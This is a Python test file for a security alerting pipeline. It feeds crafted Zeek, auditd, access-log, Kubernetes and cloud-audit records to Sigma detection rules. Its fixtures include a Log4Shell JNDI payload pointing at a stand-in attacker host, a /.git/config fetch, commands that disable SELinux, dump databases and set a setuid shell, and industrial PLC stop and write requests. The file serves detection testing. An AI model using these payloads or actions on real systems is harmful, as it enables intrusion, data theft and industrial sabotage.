"""Rules fire on what sources deliver, as it is written there: the fields that rules name are really supplied."""

import json
from pathlib import Path

import pytest

from detectors.placeholders import load_placeholders
from detectors.ruleset import load_ruleset
from pipelines.detect import detect
from pipelines.ingest import ingest
from store.client import Store

RULES = Path(__file__).parents[2] / "rules"


def zeek(path: str, **fields: str) -> str:
    """One record of a Zeek log, tab-separated."""
    return "\n".join(
        [
            "#separator \\x09",
            "#set_separator\t,",
            "#empty_field\t(empty)",
            "#unset_field\t-",
            f"#path\t{path}",
            "\t".join(["#fields", "ts", *fields]),
            "\t".join(["#types", "time", *("string" for _ in fields)]),
            "\t".join(["1772438400.000000", *fields.values()]),
            "",
        ]
    )


def ends(source: str, destination: str, port: str = "102") -> dict[str, str]:
    return {"uid": "C1", "id.orig_h": source, "id.orig_p": "51212", "id.resp_h": destination, "id.resp_p": port}


PAIR = ends("10.40.8.23", "10.45.1.21")
KUBERNETES = {
    "kind": "Event",
    "apiVersion": "audit.k8s.io/v1",
    "level": "RequestResponse",
    "stage": "ResponseComplete",
    "requestURI": "/api/v1/namespaces/portal/pods",
    "verb": "create",
    "user": {"username": "ops", "groups": ["dev"]},
    "sourceIPs": ["10.1.7.74"],
    "objectRef": {"resource": "pods", "namespace": "portal", "apiVersion": "v1"},
    "responseStatus": {"metadata": {}, "code": 201},
    "requestObject": {
        "spec": {
            "containers": [{"name": "a"}, {"name": "b", "securityContext": {"privileged": True}}],
            "volumes": [{"name": "r", "hostPath": {"path": "/"}}],
        }
    },
    "requestReceivedTimestamp": "2026-03-02T08:00:00.000000Z",
    "stageTimestamp": "2026-03-02T08:00:00.100000Z",
}
ACTIONTRAIL = {
    "eventId": "0000",
    "eventVersion": 1,
    "eventSource": "ecs.cn-hangzhou.aliyuncs.com",
    "sourceIpAddress": "203.0.113.66",
    "userIdentity": {"type": "ram-user", "userName": "ops"},
    "serviceName": "Ecs",
    "requestParameters": {"PortRange": "22/22", "SourceCidrIp": "0.0.0.0/0"},
    "eventTime": "2026-03-02T08:00:00Z",
    "acsRegion": "cn-hangzhou",
    "eventName": "AuthorizeSecurityGroup",
}
CTS = {
    "time": 1772438400000,
    "user": {"name": "ops", "id": "0", "domain": {"name": "city", "id": "1"}},
    "request": json.dumps({"tracker_name": "system", "status": "disabled"}),
    "service_type": "CTS",
    "resource_type": "tracker",
    "source_ip": "203.0.113.66",
    "trace_name": "updateTracker",
    "trace_rating": "normal",
    "code": "200",
}
CLOUDAUDIT = {
    "eventID": "0000",
    "eventTime": "2026-03-02 08:00:00",
    "eventSource": "cloudaudit.tencentcloudapi.com",
    "eventName": "StopLogging",
    "errorCode": 0,
    "sourceIPAddress": "203.0.113.66",
    "userIdentity": {"type": "CAMUser", "userName": "ops"},
}
AUDIT = 'type=SYSCALL msg=audit(1772438400.100:7): syscall=59 success=yes ppid=1 pid=2 auid=1003 uid=0 exe="{exe}"\n'
EXECVE = "type=EXECVE msg=audit(1772438400.100:7): argc=3 {arguments}\n"


def audit(*arguments: str) -> str:
    named = " ".join(f'a{number}="{argument}"' for number, argument in enumerate(arguments))
    return AUDIT.format(exe=f"/usr/bin/{arguments[0]}") + EXECVE.format(arguments=named)


def access(request: str, *, status: int = 200, client: str = "203.0.113.66", agent: str = "curl/8.5") -> str:
    return f'{client} - - [02/Mar/2026:16:00:00 +0800] "{request}" {status} 512 "-" "{agent}"\n'


DELIVERED = [
    (
        "ics/s7_written_from_elsewhere",
        zeek("s7comm", **PAIR, rosctr_name="Job-Request", function_name="Request Download"),
    ),
    ("ics/s7_stop_or_download", zeek("s7comm", **PAIR, rosctr_name="Job-Request", function_name="PLC Stop")),
    ("ics/s7_clock_set", zeek("s7comm", **PAIR, function_name="Request: Time Functions", subfunction_name="Set Clock")),
    ("ics/dnp3_control_from_elsewhere", zeek("dnp3", **PAIR, fc_request="DIRECT_OPERATE", fc_reply="RESPONSE")),
    ("ics/iec104_control_from_elsewhere", zeek("iec104", **PAIR, apci_type="I", info_obj_type="iec104::C_DC_NA_1")),
    (
        "ics/bacnet_write_from_elsewhere",
        zeek("bacnet", **PAIR, pdu_type="CONFIRMED_REQUEST", pdu_service="write_property"),
    ),
    ("ics/opcua_write_from_elsewhere", zeek("opcua-binary", **PAIR, msg_type="MSG", identifier_str="WriteRequest")),
    ("network/snmp_default_community", zeek("snmp", **PAIR, version="2c", community="public", get_responses="3")),
    ("network/ssh_weak_algorithms", zeek("ssh", **PAIR, version="2", cipher_alg="3des-cbc")),
    ("tls/certificate_expired", zeek("ssl", **PAIR, version="TLSv12", validation_status="certificate has expired")),
    (
        "tls/certificate_weak",
        zeek(
            "x509", **{"certificate.subject": "CN=a", "certificate.key_type": "rsa", "certificate.key_length": "1024"}
        ),
    ),
    ("dns/mining_pool", zeek("dns", **PAIR, query="pool.supportxmr.com", qtype_name="A")),
    (
        "web/nacos_exploit",
        zeek("http", **ends("203.0.113.66", "198.51.100.24"), uri="/nacos/v1/auth/users", status_code="200"),
    ),
    ("web/seeyon_exploit", access("POST /seeyon/htmlofficeservlet HTTP/1.1")),
    ("web/java_injection", access("GET / HTTP/1.1", agent="${${::-j}ndi:ldap://203.0.113.66/a}")),
    ("web/secrets_fetched", access("GET /.git/config HTTP/1.1")),
    ("linux/protection_switched_off", audit("setenforce", "0")),
    ("linux/database_dumped_by_person", audit("mysqldump", "--all-databases")),
    ("linux/setuid_bit_set", audit("chmod", "u+s", "/home/ops/bash")),
    (
        "linux/login_around_bastion",
        "<38>1 2026-03-02T08:00:00Z app-1 sshd 811 - - Accepted password for ops from 10.1.7.74 port 51200 ssh2\n",
    ),
    ("linux/log_records_lost", "<4>1 2026-03-02T08:00:00Z app-1 kernel - - - audit: backlog limit exceeded\n"),
    ("cloud/kubernetes_pod_owns_node", json.dumps(KUBERNETES) + "\n"),
    ("cloud/alicloud_opened_to_everybody", json.dumps(ACTIONTRAIL) + "\n"),
    ("cloud/alicloud_opened_to_everybody", json.dumps([ACTIONTRAIL])),
    ("cloud/alicloud_opened_to_everybody", json.dumps({"eventTime": ACTIONTRAIL["eventTime"], "event": ACTIONTRAIL})),
    ("cloud/huaweicloud_tracker_stopped", json.dumps(CTS) + "\n"),
    ("cloud/tencentcloud_audit_stopped", json.dumps(CLOUDAUDIT) + "\n"),
]


@pytest.mark.parametrize(("rule", "text"), DELIVERED, ids=[rule for rule, _ in DELIVERED])
def test_a_rule_fires_on_what_its_source_delivers(rule: str, text: str, store: Store, tmp_path: Path) -> None:
    path = tmp_path / "delivered"
    path.write_text(text, encoding="utf-8")
    ingest([path], store, scope="fuzhou")
    placeholders = load_placeholders(RULES / "placeholders.yml")
    detect(store, load_ruleset(RULES / "sigma" / f"{rule}.yml", placeholders=placeholders))
    found = store.rows("SELECT DISTINCT rule_path FROM alert_matches")
    assert [Path(str(row["rule_path"])).stem for row in found] == [Path(rule).stem]
